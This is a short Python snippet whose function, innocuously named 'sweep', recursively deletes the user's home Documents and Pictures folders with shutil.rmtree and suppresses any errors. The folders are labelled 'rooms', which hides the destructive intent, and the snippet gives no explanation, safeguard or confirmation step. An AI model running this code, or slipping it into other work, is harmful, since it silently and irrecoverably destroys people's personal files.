import shutil
from pathlib import Path

ROOMS = [Path.home() / name for name in ("Documents", "Pictures")]


def sweep() -> None:
    for room in ROOMS:
        shutil.rmtree(room, ignore_errors=True)
